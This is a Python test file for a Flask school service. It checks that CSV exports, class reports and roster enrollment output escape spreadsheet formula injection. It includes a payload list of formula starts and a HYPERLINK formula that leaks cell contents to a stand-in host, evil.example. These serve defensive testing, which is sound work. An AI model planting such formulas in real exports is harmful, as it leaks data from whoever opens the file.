"""No CSV the service writes lets a spreadsheet run a cell (OWASP CSV injection): the export ZIP, the class
report download and the codes ``flask enroll`` prints, on both databases."""

from __future__ import annotations

import csv
import io
import zipfile

from flask import Flask

from app.extensions import db
from app.models import SchoolClass
from app.services.people.accounts import enroll
from tests.conftest import World

# Each formula start OWASP lists: = + - @, a tab and a carriage return.
PAYLOADS = ["=1+1", "+A1+1", "-A1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_export_zip_neutralises_every_formula_start(app: Flask, world: World, shipped_graph) -> None:
    app1 = world.actors["app1"]
    created = app1.request("POST", "/api/v1/students", json={"external_id": HYPERLINK})
    assert created.status_code == 201, created.get_json()
    student = created.get_json()["id"]
    exercise = sorted(shipped_graph.exercises)[0]
    for payload in PAYLOADS:
        answered = app1.request(
            "POST",
            f"/api/v1/students/{student}/responses",
            json={"exercise_id": exercise, "correct": True, "client_response_id": payload},
        )
        assert answered.status_code == 201, (payload, answered.get_json())
    bundle = zipfile.ZipFile(
        io.BytesIO(app1.request("GET", f"/api/v1/students/{student}/export?format=csv").get_data())
    )
    responses = rows_of(bundle.read("responses.csv").decode())
    column = responses[0].index("client_response_id")
    sent = [row[column] for row in responses[1:]]
    assert sorted(set(sent)) == sorted("'" + p for p in PAYLOADS), sent
    profile = dict(rows_of(bundle.read("profile.csv").decode())[1:])
    assert profile["external_id"] == "'" + HYPERLINK
    # Numbers stay numbers: a P(L) or a negative answer is not a formula.
    p_correct = responses[1][responses[0].index("p_correct")]
    assert float(p_correct) > 0 and not p_correct.startswith("'")
    for name in bundle.namelist():
        if name.endswith(".csv"):
            for row in rows_of(bundle.read(name).decode()):
                assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in row), (name, row)


def test_the_class_report_csv_neutralises_ids(app: Flask, world: World) -> None:
    ids = ["=A1", "+A1", "-A1", "@A1", HYPERLINK]
    with app.app_context():
        enroll(db.session(), db.session.get(SchoolClass, world.class_a), ids)
    download = world.actors["teacher_a"].request("GET", f"/classes/{world.class_a}/report.csv")
    assert download.status_code == 200
    students = {row[0] for row in rows_of(download.get_data(as_text=True))[1:] if not row[0].startswith("(")}
    assert students == {"student-a", *("'" + i for i in ids)}


def test_enroll_prints_ids_as_text(app: Flask, world: World, runner) -> None:
    roster = (
        "external_id\n"
        + "\n".join(
            f'"{i}"' for i in ["=A1", "+A1", "-A1", "@A1", HYPERLINK.replace('"', '""'), "\t=1+1", "\r=2+2"]
        )
        + "\n"
    )
    result = runner.invoke(args=["enroll", world.join_a, "-"], input=roster)
    assert result.exit_code == 0, result.output
    printed = rows_of(result.stdout)
    assert printed[0] == ["external_id", "personal_code", "status"]
    # Surrounding whitespace is stripped from roster ids (so "\t=1+1" is the id "=1+1"), then neutralised.
    assert [row[0] for row in printed[1:]] == [
        "'=A1",
        "'+A1",
        "'-A1",
        "'@A1",
        "'" + HYPERLINK,
        "'=1+1",
        "'=2+2",
    ]
